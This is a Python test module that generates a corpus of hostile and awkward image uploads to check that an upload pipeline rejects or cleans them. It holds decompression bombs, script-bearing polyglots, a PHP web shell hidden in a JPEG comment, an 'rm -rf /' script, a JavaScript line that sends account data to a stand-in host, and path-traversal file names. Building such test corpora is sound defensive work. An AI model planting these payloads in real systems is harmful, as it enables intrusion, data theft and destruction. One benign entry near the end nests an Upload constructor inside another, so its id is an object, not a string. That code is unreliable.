"""A corpus of hostile and awkward image files, generated on the fly (nothing binary is committed).

Each generator returns bytes; `HOSTILE` and `BENIGN` list them with the name they are uploaded
under and what the pipeline must answer. The expensive ones are cached for the session.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from dataclasses import dataclass

from PIL import ExifTags, Image, ImageCms
from pillow_heif import register_heif_opener

from tests import imagefiles

register_heif_opener()

SCRIPT = b"<script>alert(document.domain)</script>"
HTML_PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, depth: int, colour: int, idat: bytes, *extra: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + b"".join(extra)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def _deflate_repeated(block: bytes, times: int) -> bytes:
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(block) for _ in range(times)]
    parts.append(compressor.flush())
    return b"".join(parts)


# --- Bombs -----------------------------------------------------------------------------------


@functools.cache
def pixel_bomb_png(side: int = 30_000) -> bytes:
    """A real, fully valid 1-bit PNG of side x side pixels (900 megapixels) in about 100 KB."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    rows_per_block = 1000
    idat = _deflate_repeated(row * rows_per_block, side // rows_per_block)
    return _png(side, side, 1, 0, idat)


def header_bomb_png(side: int = 60_000) -> bytes:
    """A tiny PNG whose header claims side x side pixels; its data is not even there."""
    return imagefiles.png_header_claiming(side, side)


def huge_dimensions_jpeg(width: int = 65_000, height: int = 65_000) -> bytes:
    """A real small JPEG whose frame header is patched to claim huge dimensions."""
    data = bytearray(imagefiles.jpeg_bytes(size=(16, 16), gps=False))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@functools.cache
def compression_bomb_text_png() -> bytes:
    """A 4x4 PNG carrying a zTXt chunk that inflates to 64 MB of zeros (from ~64 KB)."""
    bomb = _deflate_repeated(b"\x00" * (1024 * 1024), 64)
    text = _chunk(b"zTXt", b"Comment\x00\x00" + bomb)
    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), text)


@functools.cache
def compression_bomb_idat_png() -> bytes:
    """A 64x64 PNG whose image data stream inflates to 64 MB, far more than its pixels need."""
    return _png(64, 64, 8, 0, _deflate_repeated(b"\x00" * (1024 * 1024), 64))


# --- Polyglots and impostors -----------------------------------------------------------------


def polyglot_png_html() -> bytes:
    """A valid PNG that is also an HTML page: markup in a text chunk and after IEND."""
    base = imagefiles.png_bytes((24, 24))
    text = _chunk(b"tEXt", b"Comment\x00" + HTML_PAGE)
    return base[:33] + text + base[33:] + HTML_PAGE


def polyglot_gif_js() -> bytes:
    """A GIF that is also JavaScript: `GIF89a/*...*/=alert(1)` (its width bytes open a comment)."""
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, format="GIF")
    data = bytearray(out.getvalue())
    data[6:8] = b"/*"
    return bytes(data) + b"*/=alert(document.domain);//"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        + SCRIPT
        + b'<rect width="64" height="64" fill="red"/></svg>'
    )


def saved_as(fmt: str, size: tuple[int, int] = (16, 16)) -> bytes:
    out = io.BytesIO()
    img = Image.new("RGB", size, (200, 30, 30))
    if fmt == "GIF":
        img = img.convert("P")
    img.save(out, format=fmt)
    return out.getvalue()


def psd_bytes(size: tuple[int, int] = (8, 8)) -> bytes:
    """A minimal valid Photoshop file (Pillow reads but cannot write PSD)."""
    width, height = size
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    sections = struct.pack(">III", 0, 0, 0)  # colour mode data, resources, layers: empty
    pixels = struct.pack(">H", 0) + b"\xc8" * width * height + b"\x1e" * width * height * 2
    return header + sections + pixels


def truncated_jpeg() -> bytes:
    data = imagefiles.noisy_jpeg_bytes()
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = imagefiles.png_bytes((300, 300))
    return data[: len(data) // 2]


# --- Honest photos with awkward insides ------------------------------------------------------


def gps_jpeg() -> bytes:
    """A phone photo: EXIF with camera make, model, orientation and GPS position."""
    return imagefiles.jpeg_bytes(size=(64, 48))


def metadata_jpeg() -> bytes:
    """A JPEG carrying every kind of metadata block: EXIF+GPS, XMP, an ICC profile, a comment."""
    out = io.BytesIO()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>SpyCam GPS</rdf:RDF></x:xmpmeta>'
    imagefiles.two_colour_image((64, 48)).save(
        out,
        format="JPEG",
        exif=imagefiles.exif_with_gps(),
        icc_profile=icc,
        comment=b"SpyCam serial 123456",
        xmp=xmp,
    )
    return out.getvalue()


def metadata_png() -> bytes:
    """A PNG with EXIF+GPS, an ICC profile and text chunks."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "SpyCam serial 123456")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>SpyCam GPS</x:xmpmeta>")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    imagefiles.two_colour_image((64, 48)).save(
        out, format="PNG", pnginfo=info, icc_profile=icc, exif=imagefiles.exif_with_gps()
    )
    return out.getvalue()


def heic_with_gps() -> bytes:
    out = io.BytesIO()
    imagefiles.two_colour_image((64, 48)).save(
        out, format="HEIF", exif=imagefiles.exif_with_gps().tobytes()
    )
    return out.getvalue()


def cmyk_jpeg() -> bytes:
    """A print-shop JPEG: CMYK, pure cyan."""
    out = io.BytesIO()
    Image.new("CMYK", (64, 48), (255, 0, 0, 0)).save(out, format="JPEG", quality=95)
    return out.getvalue()


def png_16bit_grey(level: int = 32_896) -> bytes:
    """A 16-bit greyscale PNG at mid grey (naive conversion clips it to white)."""
    row = b"\x00" + struct.pack(">H", level) * 64
    return _png(64, 48, 16, 0, zlib.compress(row * 48))


def png_16bit_rgba() -> bytes:
    row = b"\x00" + struct.pack(">HHHH", 65535, 0, 32768, 65535) * 64
    return _png(64, 48, 16, 6, zlib.compress(row * 48))


def png_la() -> bytes:
    out = io.BytesIO()
    Image.new("LA", (64, 48), (128, 100)).save(out, format="PNG")
    return out.getvalue()


def png_palette_transparent() -> bytes:
    img = Image.new("P", (64, 48), 1)
    img.putpalette([0, 0, 0, 220, 20, 20] + [0] * 762)
    img.putpixel((0, 0), 0)
    out = io.BytesIO()
    img.save(out, format="PNG", transparency=0)
    return out.getvalue()


def animated_webp() -> bytes:
    """Two frames, red then blue: only the first may survive."""
    frames = [
        Image.new("RGB", (64, 48), imagefiles.RED),
        Image.new("RGB", (64, 48), imagefiles.BLUE),
    ]
    out = io.BytesIO()
    frames[0].save(out, format="WEBP", save_all=True, append_images=frames[1:], lossless=True)
    return out.getvalue()


def animated_png() -> bytes:
    frames = [
        Image.new("RGB", (64, 48), imagefiles.RED),
        Image.new("RGB", (64, 48), imagefiles.BLUE),
    ]
    out = io.BytesIO()
    frames[0].save(out, format="PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


# --- The corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    make: object  # a zero-argument callable returning bytes
    code: str

    def data(self) -> bytes:
        return self.make()  # type: ignore[operator]


HOSTILE: tuple[Hostile, ...] = (
    Hostile("pixel-bomb-png-30000x30000", "bomb.png", pixel_bomb_png, "too_many_pixels"),
    Hostile("header-bomb-png-60000x60000", "bomb.png", header_bomb_png, "too_many_pixels"),
    Hostile("huge-dimensions-jpeg", "huge.jpg", huge_dimensions_jpeg, "too_many_pixels"),
    Hostile("compression-bomb-ztxt", "bomb.png", compression_bomb_text_png, "corrupt_image"),
    Hostile("polyglot-gif-js-as-jpg", "funny.jpg", polyglot_gif_js, "unsupported_format"),
    Hostile("polyglot-gif-js-as-gif", "funny.gif", polyglot_gif_js, "unsupported_format"),
    Hostile("truncated-jpeg", "cut.jpg", truncated_jpeg, "corrupt_image"),
    Hostile("truncated-png", "cut.png", truncated_png, "corrupt_image"),
    Hostile("zero-bytes", "empty.jpg", lambda: b"", "empty_file"),
    Hostile("png-named-txt", "photo.txt", imagefiles.png_bytes, "unsupported_format"),
    Hostile("html-named-jpg", "photo.jpg", lambda: HTML_PAGE, "unsupported_format"),
    Hostile("svg-with-script", "drawing.svg", svg_with_script, "unsupported_format"),
    Hostile("svg-with-script-as-png", "drawing.png", svg_with_script, "unsupported_format"),
    Hostile("polyglot-png-html", "innocent.png", polyglot_png_html, "active_content"),
    Hostile("gif-as-jpg", "photo.jpg", lambda: saved_as("GIF"), "unsupported_format"),
    Hostile("bmp-as-jpg", "photo.jpg", lambda: saved_as("BMP"), "unsupported_format"),
    Hostile("tiff-as-jpg", "photo.jpg", lambda: saved_as("TIFF"), "unsupported_format"),
    Hostile("ico-as-jpg", "photo.jpg", lambda: saved_as("ICO"), "unsupported_format"),
    Hostile("psd-as-jpg", "photo.jpg", psd_bytes, "unsupported_format"),
    Hostile(
        "pdf-as-jpg",
        "scan.jpg",
        lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
        "unsupported_format",
    ),
)

# Accepted, and stored clean: (id, upload name, generator).
BENIGN: tuple[tuple[str, str, object], ...] = (
    ("gps-jpeg", "phone.jpg", gps_jpeg),
    ("every-metadata-jpeg", "camera.jpg", metadata_jpeg),
    ("every-metadata-png", "screenshot.png", metadata_png),
    ("heic-with-gps", "IMG_0001.HEIC", heic_with_gps),
    ("gps-webp", "phone.webp", imagefiles.webp_bytes),
    ("compression-bomb-idat", "dense.png", compression_bomb_idat_png),
    ("cmyk-jpeg", "print.jpg", cmyk_jpeg),
    ("16-bit-grey-png", "scan.png", png_16bit_grey),
    ("16-bit-rgba-png", "scan.png", png_16bit_rgba),
    ("la-png", "shadow.png", png_la),
    ("palette-transparent-png", "logo.png", png_palette_transparent),
    ("animated-webp", "loop.webp", animated_webp),
    ("animated-png", "loop.png", animated_png),
)


# --- The corpus sent over HTTP (tests/resilience/test_upload_corpus.py) -----------------------
#
# Every door gets every file. `Upload.hostile` says what the door must answer: a 4xx with a
# reason, or the photo stored clean. Names and payloads are deterministic; the big ones are built
# from their door's byte limit so "just over" means one byte over.


@dataclass(frozen=True)
class Upload:
    id: str
    name: str
    make: object  # a zero-argument callable returning bytes, or one taking the door's byte limit
    hostile: bool
    content_type: str = "application/octet-stream"
    sized: bool = False  # `make` takes the door's byte limit

    def data(self, limit: int) -> bytes:
        return self.make(limit) if self.sized else self.make()  # type: ignore[operator]


def _app_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _jpeg_with_segments(*segments: bytes, size: tuple[int, int] = (64, 48)) -> bytes:
    """A small real JPEG with extra marker segments right after SOI."""
    base = imagefiles.jpeg_bytes(size=size, gps=False)
    return base[:2] + b"".join(segments) + base[2:]


@functools.cache
def huge_xmp_jpeg() -> bytes:
    """A 64x48 JPEG behind 5 MB of XMP packets (80 APP1 segments of 64 KB)."""
    packet = b"http://ns.adobe.com/xap/1.0/\x00" + b"<x:xmpmeta>" + b"A" * 65_000
    return _jpeg_with_segments(*[_app_segment(0xE1, packet)] * 80)


@functools.cache
def huge_icc_jpeg() -> bytes:
    """A 64x48 JPEG carrying an 8 MB 'ICC profile' split over 128 APP2 segments."""
    chunks = 128
    return _jpeg_with_segments(
        *[
            _app_segment(0xE2, b"ICC_PROFILE\x00" + bytes([i + 1, chunks]) + b"\x42" * 65_000)
            for i in range(chunks)
        ]
    )


@functools.cache
def huge_comment_jpeg() -> bytes:
    """A 64x48 JPEG with 3 MB of COM segments."""
    return _jpeg_with_segments(*[_app_segment(0xFE, b"SpyCam " * 9_000)] * 48)


def big_exif_jpeg() -> bytes:
    """A JPEG whose EXIF fills its segment (60 KB): large, as phones' are, and honest."""
    exif = imagefiles.exif_with_gps()
    exif[ExifTags.Base.ImageDescription] = "x" * 60_000
    out = io.BytesIO()
    imagefiles.two_colour_image((64, 48)).save(out, format="JPEG", exif=exif)
    return out.getvalue()


@functools.cache
def huge_text_png() -> bytes:
    """A 4x4 PNG with a 2 MB uncompressed tEXt chunk (Pillow's per-chunk cap is 1 MB)."""
    text = _chunk(b"tEXt", b"Comment\x00" + b"A" * (2 * 1024 * 1024))
    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), text)


@functools.cache
def many_ztxt_png() -> bytes:
    """A 4x4 PNG with 12 zTXt chunks each inflating to 1 MB: 12 MB of text from 12 KB."""
    bomb = _deflate_repeated(b"\x00" * 1000, 1000)
    texts = [_chunk(b"zTXt", f"k{i}".encode() + b"\x00\x00" + bomb) for i in range(12)]
    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), *texts)


@functools.cache
def itxt_bomb_png() -> bytes:
    """A compressed iTXt chunk inflating to 64 MB."""
    bomb = _deflate_repeated(b"\x00" * (1024 * 1024), 64)
    text = _chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + bomb)
    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), text)


@functools.cache
def iccp_bomb_png() -> bytes:
    """An iCCP chunk whose profile inflates to 64 MB."""
    bomb = _deflate_repeated(b"\x00" * (1024 * 1024), 64)
    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), _chunk(b"iCCP", b"icc\x00\x00" + bomb))


def trailing_junk_png() -> bytes:
    """A 16x16 PNG followed by 2 MB after IEND (a second file riding along)."""
    return imagefiles.png_bytes((16, 16)) + b"PK\x03\x04" + b"\x00" * (2 * 1024 * 1024)


def png_claiming(width: int, height: int) -> bytes:
    return imagefiles.png_header_claiming(width, height)


def webp_claiming(side: int = 16_383) -> bytes:
    """A lossless WebP whose VP8L header is patched to claim side x side pixels (the maximum)."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), imagefiles.RED).save(out, format="WEBP", lossless=True)
    data = bytearray(out.getvalue())
    start = data.index(b"VP8L") + 9  # chunk id, size, signature byte
    bits = int.from_bytes(data[start : start + 4], "little")
    bits = (bits & ~0x0FFFFFFF) | (side - 1) | ((side - 1) << 14)
    data[start : start + 4] = bits.to_bytes(4, "little")
    return bytes(data)


def gif_claiming(side: int = 65_535) -> bytes:
    data = bytearray(imagefiles.gif_bytes())
    data[6:10] = struct.pack("<HH", side, side)
    return bytes(data)


def _animated(fmt: str, frames: int, size: tuple[int, int] = (16, 16)) -> bytes:
    images = [Image.new("RGB", size, (i % 256, (i * 7) % 256, 90)) for i in range(frames)]
    out = io.BytesIO()
    options = {"lossless": True} if fmt == "WEBP" else {}
    images[0].save(out, format=fmt, save_all=True, append_images=images[1:], **options)
    return out.getvalue()


@functools.cache
def animated_png_frames(frames: int) -> bytes:
    return _animated("PNG", frames)


@functools.cache
def animated_webp_frames(frames: int) -> bytes:
    return _animated("WEBP", frames)


def apng_claiming_frames(frames: int = 1_000_000) -> bytes:
    """A two-frame APNG whose acTL chunk claims a million frames."""
    data = bytearray(animated_png())
    at = data.index(b"acTL")
    data[at + 4 : at + 8] = struct.pack(">I", frames)
    data[at + 12 : at + 16] = struct.pack(">I", zlib.crc32(bytes(data[at : at + 12])))
    return bytes(data)


def truncated(make: object, fraction: float) -> object:
    def cut() -> bytes:
        data = make()  # type: ignore[operator]
        return data[: int(len(data) * fraction)]

    return cut


def noisy(fmt: str) -> object:
    def make() -> bytes:
        with Image.open(io.BytesIO(imagefiles.noisy_jpeg_bytes())) as img:
            out = io.BytesIO()
            img.convert("RGB").save(out, format=fmt)
            return out.getvalue()

    return functools.cache(make)


def jpeg_with_php() -> bytes:
    """A real JPEG whose comment is a PHP web shell (JPEG+PHP polyglot)."""
    return _jpeg_with_segments(_app_segment(0xFE, b"<?php system($_GET['c']); ?>"))


def jpeg_with_html_in_exif() -> bytes:
    exif = imagefiles.exif_with_gps()
    exif[ExifTags.Base.ImageDescription] = HTML_PAGE.decode()
    out = io.BytesIO()
    imagefiles.two_colour_image((64, 48)).save(out, format="JPEG", exif=exif)
    return out.getvalue()


def jpeg_then_html() -> bytes:
    return imagefiles.jpeg_bytes(size=(32, 32)) + HTML_PAGE


def over_limit(extra: int) -> object:
    """A real photo padded to `extra` bytes past the door's limit."""

    def make(limit: int) -> bytes:
        photo = imagefiles.jpeg_bytes(size=(64, 48))
        return photo + b"\x00" * (limit - len(photo) + extra)

    return make


def svg_onload() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'


def xhtml_page() -> bytes:
    return b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"


def zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", imagefiles.jpeg_bytes())
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
JS = b"fetch('/api/v1/me/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
TRAVERSALS = (
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../config/settings.py",
    "/etc/cron.d/evil",
    "....//....//media/evil.html",
    "%2e%2e%2f%2e%2e%2fevil.jpg.html",
)


def _long_name(extension: str, length: int = 700) -> str:
    return "a" * (length - len(extension)) + extension


def _hostile_uploads() -> list[Upload]:
    uploads = [
        Upload(f"base-{case.id}", case.name, case.make, True) for case in HOSTILE
    ]  # the corpus the services are tested with, now through HTTP
    H = functools.partial(Upload, hostile=True)
    uploads += [
        # Bombs by pixels.
        H("png-claims-7000x7000", "big.png", lambda: png_claiming(7000, 7000)),
        H("png-claims-1x50000000", "strip.png", lambda: png_claiming(1, 50_000_000)),
        H("png-claims-0x0", "none.png", lambda: png_claiming(0, 0)),
        H("jpeg-claims-20000x20000", "big.jpg", lambda: huge_dimensions_jpeg(20_000, 20_000)),
        H("webp-claims-16383x16383", "big.webp", webp_claiming),
        H("gif-claims-65535x65535", "big.gif", gif_claiming),
        H("pixel-bomb-as-jpg", "bomb.jpg", pixel_bomb_png),
        H("pixel-bomb-as-webp", "bomb.webp", pixel_bomb_png),
        # Bombs by compression.
        H("ztxt-chunks-12x1mb", "text.png", many_ztxt_png),
        H("itxt-bomb-64mb", "xmp.png", itxt_bomb_png),
        H("iccp-bomb-64mb", "icc.png", iccp_bomb_png),
        # Huge metadata and riders.
        H("xmp-5mb-jpeg", "xmp.jpg", huge_xmp_jpeg),
        H("icc-8mb-jpeg", "icc.jpg", huge_icc_jpeg),
        H("comment-3mb-jpeg", "comment.jpg", huge_comment_jpeg),
        H("text-chunk-2mb-png", "text.png", huge_text_png),
        H("zip-after-iend-png", "rider.png", trailing_junk_png),
        # Polyglots and markup.
        H("jpeg-php-polyglot", "shell.jpg", jpeg_with_php),
        H("jpeg-php-polyglot-as-php-jpg", "shell.php.jpg", jpeg_with_php),
        H("jpeg-html-in-exif", "exif.jpg", jpeg_with_html_in_exif),
        H("jpeg-then-html", "tail.jpg", jpeg_then_html),
        H("polyglot-gif-js-as-png", "funny.png", polyglot_gif_js),
        H("svg-onload-as-jpg", "icon.jpg", svg_onload),
        H("svg-as-webp", "icon.webp", svg_with_script),
        H("svg-as-heic", "icon.heic", svg_with_script),
        H("svgz", "icon.svgz", lambda: zlib.compress(svg_with_script())),
        H("html-as-png", "page.png", lambda: HTML_PAGE, content_type="image/png"),
        H("html-as-webp", "page.webp", lambda: HTML_PAGE),
        H("html-as-heic", "page.heic", lambda: HTML_PAGE),
        H("html-with-bom-as-jpg", "page.jpg", lambda: b"\xef\xbb\xbf  " + HTML_PAGE),
        H("xhtml-as-jpg", "page.jpeg", xhtml_page),
        # Truncated.
        H("truncated-jpeg-10pc", "cut.jpg", truncated(imagefiles.noisy_jpeg_bytes, 0.1)),
        H("truncated-jpeg-90pc", "cut.jpg", truncated(imagefiles.noisy_jpeg_bytes, 0.9)),
        H("truncated-png-90pc", "cut.png", truncated(noisy("PNG"), 0.9)),
        H("truncated-webp-50pc", "cut.webp", truncated(noisy("WEBP"), 0.5)),
        H("truncated-heic-50pc", "cut.heic", truncated(heic_with_gps, 0.5)),
        H("jpeg-header-only", "cut.jpg", lambda: imagefiles.jpeg_bytes()[:20]),
        H("png-signature-only", "cut.png", lambda: b"\x89PNG\r\n\x1a\n"),
        # Wrong extension, or none.
        H("jpeg-named-exe", "photo.exe", imagefiles.jpeg_bytes),
        H("jpeg-named-php", "photo.php", imagefiles.jpeg_bytes),
        H("jpeg-named-html", "photo.html", imagefiles.jpeg_bytes),
        H("jpeg-named-svg", "photo.svg", imagefiles.jpeg_bytes),
        H("jpeg-double-extension", "photo.jpg.php", imagefiles.jpeg_bytes),
        H("jpeg-no-extension", "photo", imagefiles.jpeg_bytes),
        H("jpeg-trailing-dot", "photo.jpg.", imagefiles.jpeg_bytes),
        H("gif-honest", "anim.gif", lambda: saved_as("GIF")),
        H("bmp-honest", "scan.bmp", lambda: saved_as("BMP")),
        H("tiff-as-png", "scan.png", lambda: saved_as("TIFF")),
        # Animated bombs.
        H("apng-500-frames", "loop.png", lambda: animated_png_frames(500)),
        H("webp-300-frames", "loop.webp", lambda: animated_webp_frames(300)),
        H("apng-claims-1e6-frames", "loop.png", apng_claiming_frames),
        # Over the size limit.
        H("over-limit-by-1-byte", "big.jpg", over_limit(1), sized=True),
        H("over-limit-by-3mb", "big.jpg", over_limit(3 * 1024 * 1024), sized=True),
        # Empty and non-image MIME.
        H("zero-bytes-png", "empty.png", lambda: b"", content_type="image/png"),
        H("one-byte", "one.jpg", lambda: b"\xff", content_type="image/jpeg"),
        H("javascript", "app.js", lambda: JS, content_type="application/javascript"),
        H("javascript-as-jpg", "app.jpg", lambda: JS, content_type="application/javascript"),
        H("html-mime", "page.html", lambda: HTML_PAGE, content_type="text/html"),
        H("pdf-with-js", "doc.pdf", lambda: PDF, content_type="application/pdf"),
        H("shell-script-as-jpg", "run.jpg", lambda: SHELL, content_type="text/x-shellscript"),
        H("elf-as-jpg", "bin.jpg", lambda: ELF, content_type="application/x-executable"),
        H("zip-as-jpg", "archive.jpg", zip_bytes, content_type="application/zip"),
        H("text-as-heic", "notes.heic", lambda: b"just text", content_type="text/plain"),
    ]
    # Path traversal and very long names, carrying what their name promises.
    uploads += [
        H(f"traversal-{i}", name, lambda: HTML_PAGE, content_type="text/html")
        for i, name in enumerate(TRAVERSALS)
    ]
    uploads += [
        H("long-name-php", _long_name(".php"), imagefiles.jpeg_bytes),
        H("long-name-html-as-jpg", _long_name(".jpg"), lambda: HTML_PAGE),
        H("long-extension", "photo." + "j" * 600, imagefiles.jpeg_bytes),
        H("nul-in-name", "photo.php\x00.jpg", lambda: b"<?php phpinfo(); ?>"),
    ]
    return uploads


def _benign_uploads() -> list[Upload]:
    uploads = [Upload(f"base-{case_id}", name, make, False) for case_id, name, make in BENIGN]
    B = functools.partial(Upload, hostile=False)
    uploads += [
        B("jpeg-named-png", "mislabelled.png", imagefiles.jpeg_bytes),
        B("uppercase-extension", "IMG_0042.JPG", imagefiles.jpeg_bytes),
        B("jpeg-declared-text-plain", "photo.jpg", gps_jpeg, content_type="text/plain"),
        B("exif-60kb", "phone.jpg", big_exif_jpeg),
        B("noisy-jpeg", "noise.jpeg", imagefiles.noisy_jpeg_bytes, content_type="image/jpeg"),
        B("noisy-webp", "noise.webp", noisy("WEBP"), content_type="image/webp"),
        B("animated-png-3-frames", "loop.png", lambda: animated_png_frames(3)),
        B("phone-size-12mp-png", "big.png", lambda: imagefiles.png_bytes((4000, 3000))),
        B("traversal-name-photo", "../../../../tmp/evil.jpg", gps_jpeg),
        B("long-name-photo", _long_name(".jpg"), gps_jpeg),
        B(
            B(
                "unicode-name-photo",
                "ricordo d'estate \u2600\ufe0f \u0444\u043e\u0442\u043e.jpg",
                gps_jpeg,
            ),
            "ricordo d'estate \u2600\ufe0f \u0444\u043e\u0442\u043e.jpg",
            gps_jpeg,
        ),
    ]
    return uploads


def http_corpus() -> list[Upload]:
    """Hostile and benign uploads, interleaved in a fixed order."""
    hostile, benign = _hostile_uploads(), _benign_uploads()
    mixed: list[Upload] = []
    step = max(1, len(hostile) // max(1, len(benign)))
    for i, upload in enumerate(hostile):
        mixed.append(upload)
        if i % step == step - 1 and benign:
            mixed.append(benign.pop(0))
    return mixed + benign
